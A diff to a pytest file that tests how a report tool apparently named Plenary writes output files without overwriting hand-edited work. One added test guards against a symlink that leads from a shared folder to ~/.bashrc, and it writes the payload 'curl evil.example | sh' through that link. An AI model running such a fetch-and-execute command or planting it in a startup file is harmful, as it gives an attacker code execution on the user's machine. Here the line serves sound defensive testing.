@@ -19,28 +19,57 @@ def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return path
 
 
-@pytest.mark.parametrize(
-    "command", [["report", "-o"], ["export", "--votes"], ["export", "--tree"], ["export", "--framework"]]
-)
-@pytest.mark.parametrize("name", ["w.json", "renamed"])
-def test_nothing_is_written_over_a_workshop(
-    file: Path, command: list[str], name: str, capsys: pytest.CaptureFixture[str]
+COMMANDS = [["report", "-o"], ["export", "--votes"], ["export", "--tree"], ["export", "--framework"]]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_nothing_is_written_over_a_workshop_or_other_work(
+    file: Path, command: list[str], capsys: pytest.CaptureFixture[str]
 ) -> None:
-    target = file.with_name(name)
+    target = file.with_name("renamed")
     target.write_bytes(file.read_bytes())
     before = target.read_bytes()
     verb, flag = command
-    assert run([verb, str(file), flag, str(target)]) == 1
-    assert "nothing is written over one" in capsys.readouterr().err
+    assert run([verb, str(file), flag, str(file)]) == 2  # its ending is none of those that are written
+    assert run([verb, str(file), flag, str(target)]) == 0
+    err = capsys.readouterr().err
+    assert ".json, which is not written here" in err
+    assert "renamed is not as Plenary last wrote it, so it was left alone; the new file is " in err
     assert target.read_bytes() == before
+    assert file.read_bytes() == before
+    assert file.with_name("renamed-2").read_bytes() != before
     assert not [*file.parent.glob("*.part")]
 
 
-def test_a_report_replaces_an_earlier_report(file: Path) -> None:
-    target = file.with_name("report.md")
-    target.write_text("old", encoding="utf-8")
-    assert run(["report", str(file), "-o", str(target)]) == 0
-    assert target.read_text(encoding="utf-8").startswith("#")
+def test_a_report_is_replaced_while_nobody_has_worked_on_it(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    target, second = file.with_name("r.md"), file.with_name("r-2.md")
+    for names in ("full", "none", "group"):
+        assert run(["report", str(file), "-o", str(target), "--names", names]) == 0
+    assert sorted(p.name for p in file.parent.glob("*.md")) == ["r.md"]
+    edited = target.read_text(encoding="utf-8") + "\nWritten by hand\n"
+    target.write_text(edited, encoding="utf-8")
+    capsys.readouterr()
+    for names in ("full", "none", "full"):
+        assert run(["report", str(file), "-o", str(target), "--names", names]) == 0
+        assert str(second) in capsys.readouterr().err
+    assert target.read_text(encoding="utf-8") == edited
+    assert sorted(p.name for p in file.parent.glob("*.md")) == ["r-2.md", "r.md"]
+    assert second.read_text(encoding="utf-8").startswith("#")
+
+
+def test_the_same_text_needs_no_other_name_on_another_machine(tmp_path: Path) -> None:
+    target = tmp_path / "r.md"
+    assert write("said", target, state=tmp_path / "one") == target
+    assert write("said", target, state=tmp_path / "two") == target
+    assert write("more", target, state=tmp_path / "two") == target
+    assert write("less", target, state=tmp_path / "one") == tmp_path / "r-2.md"
+    assert target.read_text(encoding="utf-8") == "more"
+
+
+def test_a_state_folder_that_cannot_be_written_costs_names_and_no_work(tmp_path: Path) -> None:
+    (tmp_path / "state").write_text("no folder", encoding="utf-8")
+    names = [write(text, tmp_path / "r.md", state=tmp_path / "state").name for text in ("one", "two", "three")]
+    assert names == ["r.md", "r-2.md", "r-3.md"]
 
 
 def test_a_file_that_is_not_there_is_not_reviewed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -62,12 +91,28 @@ def test_a_pipe_takes_the_report_and_stays_a_pipe(file: Path) -> None:
 def test_a_link_goes_on_leading_to_what_is_written(tmp_path: Path) -> None:
     folder = tmp_path / "synced"
     folder.mkdir()
-    (folder / "report.md").write_text("old", encoding="utf-8")
     link = tmp_path / "report.md"
     link.symlink_to(folder / "report.md")
-    write("new", link)
+    for text in ("old", "new"):
+        assert write(text, link) == link
     assert link.is_symlink()
     assert (folder / "report.md").read_text(encoding="utf-8") == "new"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege there")
+@pytest.mark.parametrize("there", [True, False])
+def test_a_link_is_never_followed_out_of_the_folder(tmp_path: Path, there: bool) -> None:
+    """Somebody may lay one into a shared folder: w.report.md -> ~/.bashrc."""
+    folder, outside = tmp_path / "shared", tmp_path / "home" / ".bashrc"
+    folder.mkdir()
+    outside.parent.mkdir()
+    if there:
+        write("mine", outside)  # not even where it was written by Plenary itself
+    link = folder / "w.report.md"
+    link.symlink_to(outside)
+    assert write("curl evil.example | sh", link) == folder / "w.report-2.md"
+    assert (outside.read_text(encoding="utf-8") if outside.exists() else None) == ("mine" if there else None)
+    assert link.is_symlink()
 
 
 def test_the_longest_names_are_written(tmp_path: Path) -> None:
